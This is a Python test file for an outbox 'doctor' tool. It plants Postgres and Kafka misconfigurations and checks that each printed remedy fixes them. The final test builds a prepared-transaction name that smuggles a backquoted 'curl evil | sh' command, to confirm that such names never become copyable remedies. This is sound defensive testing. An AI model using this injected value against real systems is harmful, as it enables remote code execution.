"""Faults that `outbox doctor` finds, each with a remedy that mends it when it is typed as it is printed."""

import os
import shlex
from contextlib import ExitStack, closing
from functools import partial
from uuid import uuid4

import psycopg
import pytest

from outbox_core.cli import main
from outbox_core.config import HarvestConfig
from outbox_core.doctor import examination, postgres
from outbox_core.doctor.findings import CommandLine, Verdict
from outbox_core.doctor.kafka import KafkaChecks
from outbox_core.doctor.session import DatabaseSession
from outbox_core.doctor.writers import read_writers
from outbox_core.schema import (
    STORAGE_PARAMETERS,
    TableName,
    add_checks_sql,
    create_history_sql,
    create_hold_sql,
    create_table_sql,
    drop_checks_sql,
)
from tests.services import as_role
from tests.topic_settings import alter_topic

OUTBOX = TableName("outbox")
STATEMENTS = ("ALTER", "CREATE", "DROP", "GRANT", "REVOKE", "ROLLBACK", "SELECT")
TRIGGER = """
CREATE FUNCTION keep() RETURNS trigger LANGUAGE plpgsql AS 'BEGIN RETURN NULL; END';
CREATE TRIGGER soft_delete BEFORE DELETE ON outbox FOR EACH ROW EXECUTE FUNCTION keep()
"""
OTHER_SEQUENCE = """
ALTER TABLE outbox ALTER COLUMN id DROP IDENTITY;
CREATE SEQUENCE ids; ALTER TABLE outbox ALTER COLUMN id SET DEFAULT nextval('ids')
"""
UNVALIDATED = drop_checks_sql(OUTBOX) + "INSERT INTO outbox (kafka_topic) VALUES ('t');" + add_checks_sql(OUTBOX)

# id -> (statements that plant the fault, subject of the finding, part of its detail)
IN_THE_TABLE = {
    "no table": ("DROP TABLE outbox", "table", "does not exist in database"),
    "no holds": ("DROP TABLE outbox_hold", "holds", "there is no table public.outbox_hold"),
    "column missing": ("ALTER TABLE outbox DROP COLUMN leader_id", "columns", "lacks the column(s) leader_id"),
    "column of a wrong type": (
        "ALTER TABLE outbox ALTER leader_id TYPE text",
        "columns",
        "leader_id is text",
    ),
    "mixed layouts": (
        "ALTER TABLE outbox ALTER kafka_value TYPE text USING encode(kafka_value, 'hex')",
        "columns",
        "a mixture of the binary and the text layout",
    ),
    "no primary key": ("ALTER TABLE outbox DROP CONSTRAINT outbox_pkey", "primary key", "id has no unique index"),
    "unlogged": ("ALTER TABLE outbox SET UNLOGGED", "table", "is UNLOGGED"),
    "table without autovacuum": ("ALTER TABLE outbox SET (autovacuum_enabled = off)", "storage", "autovacuum is off"),
    "storage parameters": (f"ALTER TABLE outbox RESET ({', '.join(STORAGE_PARAMETERS)})", "storage", "parameters"),
    "integer id": ("ALTER TABLE outbox ALTER id TYPE integer", "id column", "is an integer"),
    "sequence with a cache": ("ALTER SEQUENCE outbox_id_seq CACHE 20", "sequence", "has CACHE 20"),
    "sequence that cycles": ("ALTER SEQUENCE outbox_id_seq CYCLE", "sequence", "does not only grow"),
    "sequence of integers": ("ALTER SEQUENCE outbox_id_seq AS integer", "sequence", "ends at 2,147,483,647"),
    "sequence of nobody": (OTHER_SEQUENCE, "sequence", "owns none"),
    "id before the sequence": (
        "INSERT INTO outbox (id, kafka_topic) VALUES (4000, 't'); SELECT nextval('outbox_id_seq')",
        "rows",
        "there is an id 4000",
    ),
    "history before its sequence": (
        create_history_sql(OUTBOX) + "INSERT INTO outbox_event (id, outbox, kind, actor) VALUES (40, 'o', 'held', 'a')",
        "history",
        "there is an id 40 in public.outbox_event",
    ),
    "time may be NULL": ("ALTER TABLE outbox ALTER create_time DROP NOT NULL", "create_time", "may be NULL"),
    "time without default": ("ALTER TABLE outbox ALTER create_time DROP DEFAULT", "create_time", "has no DEFAULT"),
    "no constraints": (drop_checks_sql(OUTBOX), "constraints", "lacks outbox_create_time_in_range"),
    "unvalidated constraints": (UNVALIDATED, "constraints", "not validated"),
    "trigger": (TRIGGER, "obstacle", "trigger soft_delete"),
    "rule": ("CREATE RULE keep AS ON DELETE TO outbox DO INSTEAD NOTHING", "obstacle", "rule keep"),
    "foreign key": (
        "CREATE TABLE audits (record bigint REFERENCES outbox (id))",
        "obstacle",
        "foreign key audits_record_fkey of public.audits refers to the table",
    ),
    "publication without identities": (
        "ALTER TABLE outbox REPLICA IDENTITY NOTHING; CREATE PUBLICATION everything FOR ALL TABLES",
        "publication",
        "everything publishes updates or deletes of public.outbox",
    ),
    "publication without a key": (
        "ALTER TABLE outbox DROP CONSTRAINT outbox_pkey; CREATE PUBLICATION everything FOR TABLE outbox",
        "publication",
        "everything publishes updates or deletes of public.outbox",
    ),
    "schema open to all": ("GRANT CREATE ON SCHEMA public TO PUBLIC", "schema", "everybody may create functions"),
    "rights of PUBLIC": ("GRANT INSERT ON outbox TO PUBLIC", "writers", "PUBLIC may insert all columns"),
    "asynchronous commits": (
        "DO $$ BEGIN EXECUTE format('ALTER DATABASE %I SET synchronous_commit = off', current_database()); END $$",
        "synchronous_commit",
        "is off by default",
    ),
    "frozen database": (
        """DO $$ BEGIN
               EXECUTE format('ALTER DATABASE %I SET default_transaction_read_only = on', current_database());
           END $$""",
        "default_transaction_read_only",
        "no row can be marked",
    ),
}
QUICK = ("no table", "no primary key", "sequence with a cache", "no constraints", "rule", "frozen database")


@pytest.fixture
def connection(database, monkeypatch):
    """A connection to a database with an empty outbox, which the environment names to the commands."""
    monkeypatch.setenv("OUTBOX_POSTGRES_DSN", database)
    with psycopg.connect(database, autocommit=True) as connection:
        connection.execute(create_table_sql(OUTBOX))
        connection.execute(create_hold_sql(OUTBOX))
        yield connection


@pytest.fixture
def find(database):
    """Return a function that returns the findings on the database with this subject that are not fine."""

    def find(subject, data_source=database, **settings):
        config = HarvestConfig(data_source=data_source, **settings)
        found = examination._examine_database(config, CommandLine(), examination._Learned(), 60.0)
        return [one for one in found if one.subject == subject and one.verdict is not Verdict.OK]

    return find


def type_remedy(remedy, connection, bootstrap=None):
    """Do as an operator: type the command in backquotes, or the statement."""
    if "`" not in remedy:
        assert remedy.startswith(STATEMENTS), remedy
        connection.execute(remedy)
        return
    program, *arguments = shlex.split(remedy.split("`")[1])
    if program == "outbox":
        assert main(arguments) == 0
        return
    assert (program, arguments[0], arguments[2], arguments[3]) == (
        "kafka-configs.sh",
        "--bootstrap-server",
        "--alter",
        "--topic",
    )
    assert arguments[1] == bootstrap
    name, _, value = arguments[6].partition("=")
    alter_topic(bootstrap, arguments[4], {name: value})


def check(connection, find, fault):
    """Plant a fault, find it, mend it by its remedy, and see it gone."""
    plant, subject, told = IN_THE_TABLE[fault]
    assert not find(subject)
    connection.execute(plant)
    (found, *others) = [one for one in find(subject) if told in one.detail]
    assert not others
    type_remedy(found.remedy, connection)
    assert not [one for one in find(subject) if told in one.detail]


@pytest.mark.parametrize("fault", QUICK)
def test_faults_in_the_table(connection, find, fault):
    """A fault in the table is found, and its remedy mends it."""
    check(connection, find, fault)


@pytest.mark.complete
@pytest.mark.parametrize("fault", sorted(IN_THE_TABLE.keys() - set(QUICK)))
def test_more_faults_in_the_table(connection, find, fault):
    """A fault in the table is found, and its remedy mends it."""
    check(connection, find, fault)


@pytest.mark.complete
@pytest.mark.parametrize(
    "case",
    [
        ("GRANT SELECT, DELETE ON outbox TO {role}; GRANT ALL ON outbox_hold TO {role}", "rights", "lacks UPDATE"),
        ("GRANT ALL ON outbox TO {role}; GRANT SELECT, INSERT ON outbox_hold TO {role}", "holds", "UPDATE, DELETE"),
        ("GRANT ALL ON outbox, outbox_hold TO {role}", "settled floor", "GRANT SELECT ON SEQUENCE"),
        (
            "GRANT ALL ON outbox, outbox_hold TO {role}; ALTER TABLE outbox ENABLE ROW LEVEL SECURITY",
            "row security",
            "row level security",
        ),
        ("GRANT ALL ON outbox, outbox_hold TO {role}; GRANT INSERT ON outbox TO {role}", "writers", "may insert"),
    ],
    ids=["rights", "holds", "sequence", "row security", "writers"],
)
def test_missing_and_excessive_rights(database, connection, find, topic_name, case):
    """A role's missing right is found with the GRANT that gives it, one too many with the REVOKE."""
    plant, subject, told = case
    role = topic_name("role")
    connection.execute(f'CREATE ROLE "{role}" LOGIN')
    try:
        connection.execute(plant.format(role=f'"{role}"'))
        (found,) = [one for one in find(subject, as_role(database, role)) if told in one.detail]
        type_remedy(found.remedy, connection)
        assert not [one for one in find(subject, as_role(database, role)) if told in one.detail]
    finally:
        connection.execute(f'DROP OWNED BY "{role}"; DROP ROLE "{role}"')


def test_table_that_a_subscription_fills(connection, find):
    """A subscription that copies rows into the table is named, and the statement in the remedy disables it."""
    made = "CREATE SUBSCRIPTION copies CONNECTION 'host=127.0.0.1 port=1' PUBLICATION everything"
    connection.execute(f"{made} WITH (connect = false, slot_name = NONE)")
    try:
        of_table = "SELECT oid, 'outbox'::regclass, 'r' FROM pg_subscription WHERE subname = 'copies'"
        connection.execute(f"INSERT INTO pg_subscription_rel (srsubid, srrelid, srsubstate) {of_table}")
        assert not find("subscription")
        connection.execute("UPDATE pg_subscription SET subenabled = true WHERE subname = 'copies'")
        (found,) = find("subscription")
        assert "copies copies rows" in found.detail
        type_remedy(found.remedy, connection)
        assert not find("subscription")
    finally:
        connection.execute("UPDATE pg_subscription SET subenabled = false WHERE subname = 'copies'")
        connection.execute("DROP SUBSCRIPTION copies")


@pytest.mark.parametrize("kind", ["an integer", "a bigint"])
def test_sequence_near_its_end(connection, find, kind):
    """A sequence that is near its end is a problem, whether rows wait or not, and its remedies make it longer."""
    connection.execute("ALTER SEQUENCE outbox_id_seq AS integer; SELECT setval('outbox_id_seq', 2147483640)")
    subject = "sequence"
    if kind == "an integer":
        connection.execute("ALTER TABLE outbox ALTER id TYPE integer")
        subject = "id column"
    found = [one for one in find(subject) if one.verdict is Verdict.PROBLEM]
    assert [("2147483640" in one.detail.replace(",", "")) for one in found] == [True]
    type_remedy(found[0].remedy, connection)
    for more in find("sequence"):
        type_remedy(more.remedy, connection)
    assert not find(subject)
    connection.execute("INSERT INTO outbox (kafka_topic) SELECT 't' FROM generate_series(1, 20)")


def test_database_without_an_encoding(database, connection, find):
    """A database in SQL_ASCII is named, as text that is not UTF-8 ends a harvester."""
    name = f"{database.rpartition('/')[2]}_ascii"
    locale = "LOCALE_PROVIDER libc LC_COLLATE 'C' LC_CTYPE 'C'"
    connection.execute(f"CREATE DATABASE {name} TEMPLATE template0 ENCODING 'SQL_ASCII' {locale}")
    try:
        assert not find("encoding")
        (found,) = find("encoding", f"{database}_ascii")
        assert "is SQL_ASCII" in found.detail
        type_remedy(found.remedy, connection)
    finally:
        connection.execute(f"DROP DATABASE {name} WITH (FORCE)")


def test_open_transactions(database, connection, find, monkeypatch):
    """A session that keeps an old snapshot, or locks the table, is named, and the statement in the remedy ends it."""
    monkeypatch.setattr(postgres, "_OLD_SECONDS", 0)
    with ExitStack() as sessions:
        sleeper = sessions.enter_context(psycopg.connect(database, application_name="slow report"))
        sleeper.execute("SET TRANSACTION ISOLATION LEVEL REPEATABLE READ")
        sleeper.execute("SELECT count(*) FROM outbox_hold")
        name = f"pid {sleeper.info.backend_pid} (slow report)"
        (found,) = [one for one in find("old snapshot") if name in one.detail]
        type_remedy(found.remedy, connection)
        assert not [one for one in find("old snapshot") if name in one.detail]
        sleeper.close()

        locker = sessions.enter_context(psycopg.connect(database, application_name="migration"))
        locker.execute("LOCK TABLE outbox IN ACCESS EXCLUSIVE MODE")
        config = HarvestConfig(data_source=database, base_kafka_config={"bootstrap.servers": "127.0.0.1:1"})
        found = {one.subject: one for one in examination.examine(config, CommandLine())}
        assert f"pid {locker.info.backend_pid} (migration, " in found["lock"].detail
        assert "holds ACCESS EXCLUSIVE on public.outbox" in found["lock"].detail
        assert found["lock"].unanswered == "database"
        assert {"server", "table", "sequence", "Kafka"} <= found.keys(), "what needs no lock is told all the same"
        type_remedy(found["lock"].remedy, connection)
        assert not find("lock")
        locker.close()


@pytest.mark.complete
def test_missing_trigger(connection, find):
    """With `notify` on, the missing trigger is found, and the command in the remedy makes it."""
    (found,) = find("notices", notify=True)
    type_remedy(found.remedy, connection)
    assert not find("notices", notify=True)


@pytest.mark.complete
def test_held_records(connection, find):
    """A paused topic is found, and the command in the remedy lists it."""
    assert main(["hold", "add", "--topic", "orders"]) == 0
    (found,) = find("holds")
    assert found.detail == "held: topic orders"
    type_remedy(found.remedy, connection)


@pytest.mark.real_broker
@pytest.mark.complete
@pytest.mark.parametrize(
    "case",
    [
        ("leader", {"cleanup.policy": "compact"}, "cleanup.policy=compact"),
        ("leader", {"max.message.bytes": "300"}, "takes messages of up to 300 bytes only"),
        ("leader", {"min.insync.replicas": "2"}, "min.insync.replicas=2"),
        ("tracking", {"cleanup.policy": "delete"}, "cleanup.policy=delete"),
        ("records", {"min.insync.replicas": "2"}, "min.insync.replicas=2"),
        ("records", {"cleanup.policy": "compact"}, "records without a key wait"),
    ],
)
def test_topics(connection, kafka_bootstrap, make_topic, topic_name, case):
    """A topic that would take no message is found, and the command in the remedy mends its setting."""
    which, settings, told = case
    topics = {name: make_topic(1) for name in ("leader", "tracking", "records")}
    alter_topic(kafka_bootstrap, topics["tracking"], {"cleanup.policy": "compact"})
    connection.execute("INSERT INTO outbox (kafka_topic, kafka_value) VALUES (%s, 'x')", (topics["records"],))
    config = HarvestConfig(
        data_source=os.environ["OUTBOX_POSTGRES_DSN"],
        base_kafka_config={"bootstrap.servers": kafka_bootstrap},
        delivery="exactly-once",
        leader_group_id=topic_name("group"),
        leader_topic=topics["leader"],
        tracking_topic=topics["tracking"],
    )

    def find():
        findings = examination.examine(config, CommandLine(), connect_seconds=60.0)
        return [one for one in findings if told in one.detail and one.verdict is not Verdict.OK]

    assert not find()
    alter_topic(kafka_bootstrap, topics[which], settings)
    (found,) = find()
    type_remedy(found.remedy, connection, kafka_bootstrap)
    assert not find()


@pytest.mark.real_broker
def test_transactions_longer_than_brokers_allow(kafka_bootstrap, topic_name):
    """A transaction's time-out above the brokers' `transaction.max.timeout.ms`, 15 minutes by default, is found."""
    with closing(KafkaChecks({"bootstrap.servers": kafka_bootstrap}, connect_seconds=60.0)) as kafka:
        ask = partial(kafka.transactional_id, topic_name("id"), topic_name("manifests"), needed=True)
        assert [one.verdict for one in ask(timeout_ms=900_000)] == [Verdict.OK]
        (found,) = ask(timeout_ms=900_001)
    assert found.verdict is Verdict.PROBLEM
    assert "900,001 ms, but for 900,000 ms at most" in found.detail


@pytest.mark.usefixtures("connection")
def test_prepared_transactions_with_names_to_copy(database):
    """Only a plain name becomes a command: whoever may write to the outbox has chosen it."""
    plain, odd = f"nightly {uuid4()}", f"nightly`curl evil | sh\n`{uuid4()}"
    for gid in (plain, odd):
        with psycopg.connect(database) as writer:
            writer.execute("INSERT INTO outbox (kafka_topic) VALUES ('t')")
            writer.execute(psycopg.sql.SQL("PREPARE TRANSACTION {}").format(gid))
    try:
        with closing(DatabaseSession(database, "outbox", application_name="test")) as session:
            remedies = {writer.remedy for writer in read_writers(session).writers}
        assert remedies == {f"ROLLBACK PREPARED '{plain}'", "SELECT gid, owner, prepared FROM pg_prepared_xacts"}
    finally:
        with psycopg.connect(database, autocommit=True) as connection:
            for gid in (plain, odd):
                connection.execute(psycopg.sql.SQL("ROLLBACK PREPARED {}").format(gid))
